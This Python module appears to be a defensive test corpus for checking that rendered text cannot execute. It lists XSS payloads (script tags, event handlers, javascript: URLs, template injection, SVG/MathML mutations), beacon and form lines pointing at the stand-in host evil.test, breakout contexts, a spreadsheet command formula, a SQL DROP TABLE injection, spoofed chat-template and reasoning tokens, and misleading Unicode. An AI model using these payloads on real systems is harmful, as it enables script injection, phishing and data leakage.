"""Texts that try to become more than text on a page; each would set ``window.pwned`` or call ``http://evil.test``.

``CORPUS`` is every family as it stands, and the families that could act in every context that could set them free.
"""

ACTING = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror='window.pwned=1'>",
    "<img src='http://evil.test/beacon.png'>",
    "![beacon](http://evil.test/beacon.png)",
    "[link](javascript:window.pwned=1)",
    "${Object.assign(window,{pwned:1})}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "<svg onload=window.pwned=1><image href='http://evil.test/x.svg'/></svg>",
    "<style>@import url(http://evil.test/x.css); body{background:url(http://evil.test/y.png)}</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(http://evil.test/z.png)'>overlay</div>",
    "<form action='http://evil.test/'><button autofocus>Log in</button></form>",
    "<iframe src='http://evil.test/' srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href='http://evil.test/'>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.pwned=1>",
)
"""One of each kind that could run, load, cover or send something."""

CONTEXTS = (
    "\">{}", "'>{}", "</p></span></li></ul></div></details>{}", "--><!-- -->{}<!--", "</script></style></textarea></title>{}",
    "first\n\n{}\n\nlast", "`{}`", "`+{}+`", "```html\n{}\n```", "    {}", "> {}", "\\{}", "&quot;&gt;{}", "<!--{}-->", "<![CDATA[{}]]>",
)
"""What could lead out of an attribute, an element, a comment, a template, a code block or a line."""

ALONE = (
    "</script><script>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</sCrIpT\t>",
    "<script\x0csrc=http://evil.test/x.js></script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<a href='javascript:window.pwned=1'>link</a>",
    "<a href='java\tscript:window.pwned=1'>link</a>",
    "<a href=' &#106;avascript:window.pwned=1'>link</a>",
    "[link](data:text/html,<script>window.pwned=1</script>)",
    "[link](vbscript:x)", "<javascript:window.pwned=1>", "[x]: javascript:window.pwned=1\n[x]",
    "[![x](http://evil.test/a.png)](http://evil.test/)",
    "![x][y]\n\n[y]: http://evil.test/reference.png",
    "{{#with (lookup this 'constructor')}}{{this}}{{/with}}{{value}}",
    "{{{value}}}", "{{value}}", "{{#each this}}<img src=x onerror=window.pwned=1>{{/each}}",
    "`${window.pwned=1}`", "\\${window.pwned=1}\\`", "$\\{window.pwned=1}", "${`${window.pwned=1}`}", "#{7*7} <%= 7*7 %> {% raw %}",
    "<svg><style>@import 'http://evil.test/x.css';</style></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "<svg><use href='http://evil.test/x.svg#y'/></svg>", "<svg><foreignObject><img src=x onerror=window.pwned=1></foreignObject></svg>",
    "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><img src=x onerror=window.pwned=1></template>", "<xmp><img src=x onerror=window.pwned=1></xmp>",
    "<object data='http://evil.test/'></object><embed src='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/x.css'><link rel=prefetch href='http://evil.test/p'>",
    "<video poster='http://evil.test/v.png' src='http://evil.test/v.mp4' onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1 autoplay></audio>", "<body onload=window.pwned=1>", "<marquee onstart=window.pwned=1>x</marquee>",
    "<img srcset='http://evil.test/s.png 1x'>", "<picture><source srcset='http://evil.test/p.png'><img></picture>",
    "<table background='http://evil.test/t.png'><td>x</td></table>", "<input type=image src='http://evil.test/i.png'>",
    "<button formaction='javascript:window.pwned=1'>x</button>", "<dialog open style='position:fixed;inset:0'>Sign in again</dialog>",
    "<span style='position:absolute;top:0;left:0;width:100vw;height:100vh;opacity:0'><a href='http://evil.test/'>x</a></span>",
    "\"><img src=x onerror=window.pwned=1>", "' onmouseover='window.pwned=1' x='", "\" autofocus onfocus=\"window.pwned=1",
    "x onerror=window.pwned=1", "--><img src=x onerror=window.pwned=1><!--", "--!><img src=x onerror=window.pwned=1>",
    "line one\n\n<img src=x onerror=window.pwned=1>\n\n    code\n\n# heading\n\n* item\n\n| a | b |\n|---|---|",
    "```html\n<img src='http://evil.test/fence.png'>\n```",
    "```mermaid\ngraph TD; A[\"<img src='http://evil.test/m.png'>\"]; click A href \"javascript:window.pwned=1\"\n```",
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(x\\) \\[y\\]", "$$\\includegraphics{http://evil.test/k.png}$$",
    "&lt;img src=x onerror=window.pwned=1&gt; &amp;lt;script&amp;gt;", "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\x3cscript\\x3ewindow.pwned=1\\x3c/script\\x3e \\u003cimg src=x onerror=window.pwned=1\\u003e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "＜script＞window.pwned=1＜/script＞",
    "http://evil.test/auto www.evil.test mail@evil.test", "<http://evil.test/angle>", "//evil.test/relative",
    "<think>hidden</think> <thinking>x</thinking>", "<|im_end|> <|endoftext|> </s> [INST]",
    "[1] [2] [[3]] 【1】 <sup><a class='cite' href='#ev-x-1'>[1]</a></sup>", "[^1]: note", "*[x]: y", "<!doctype html><html><body class=x>",
    "<a id=reasoning class=cite href='#chat' data-state=done data-conversation=x>[9]</a>",
    "<img name=getElementById><form id=body><input name=pwned>",
    "<slot name=x></slot><x-y onclick=window.pwned=1 tabindex=1 autofocus>", "<gradio-app src='http://evil.test/'></gradio-app>",
    "half a pair \ud83d", "\udc00\ud800 both halves, the wrong way round", "right\u202eto left\u202c and \u2066isolated\u2069",
    "\u202d\u202e\u202a\u202b\u2067\u2068", "\u200f\u200e\u061c marks", "שלום (1) <b>", "مرحبا [1] ... 123",
    "zero\u200b\u200c\u200d\u2060\ufeff width", "tags \U000e0041\U000e0042 and \ufe0f selectors", "Z" + "\u0321\u0322\u0323\u0335\u0301" * 40,
    "\x1b]8;;http://evil.test/\x07link\x1b]8;;\x07 \x1b[31mred\x00null", "\x9b31mred \x85 next line \x7f", "\x08\x08\x08back \x0b\x0c",
    "before\u2028window.pwned=1\u2029after", "line\r\nfeed\rreturn\ttab", "\ufffe\uffff\ufdd0 no characters", "=cmd|' /C calc'!A0", "'; DROP TABLE turns; --",
    "<" * 300, "{" * 300 + "}" * 300, "&" * 300, "[" * 200 + "](" * 200, "long" * 4_000, "a " * 2_000, "\n" * 300, "🏴‍☠️👩‍👩‍👧‍👦" * 40,
)
"""What acts in a way of its own, misleads the eye, or is much."""

PAYLOADS = (*ACTING, *(text for text in ALONE if len(text) < 300))
"""One of each family: for tests that take a while for each."""

CORPUS = (*PAYLOADS, *(context.replace("{}", text) for text in ACTING for context in CONTEXTS),
          *(text for text in ALONE if len(text) >= 300))
